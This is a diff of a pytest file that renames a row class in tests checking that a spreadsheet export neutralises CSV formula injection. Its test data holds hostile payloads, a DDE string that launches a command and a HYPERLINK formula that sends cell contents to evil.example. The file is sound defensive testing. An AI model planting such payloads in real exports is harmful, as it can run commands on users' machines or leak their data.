@@ -9,7 +9,7 @@ import pytest
 from ararat.cli.databases import check
 from ararat.middleware.bindings.checks.audit import Finding
 from ararat.webapp.report import spreadsheet
-from ararat.webapp.tracing.bulk import BulkResult
+from ararat.webapp.tracing.bulk import BulkTraceRow
 
 FORMULAS = ["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", '=HYPERLINK("https://evil.example/?"&A1;"ok")']
 
@@ -21,7 +21,7 @@ def test_a_formula_becomes_text(formula):
 
 @pytest.mark.parametrize("formula", FORMULAS)
 def test_no_cell_of_a_traced_row_is_a_formula(formula):
-    row = BulkResult(formula, "dead", False, None, formula, 1, 0.1, formula, formula)
+    row = BulkTraceRow(formula, "dead", False, None, formula, 1, 0.1, formula, formula)
     cells = next(csv.reader([row.as_csv()]))
     assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []
     assert cells.count(f"'{formula}") == 4
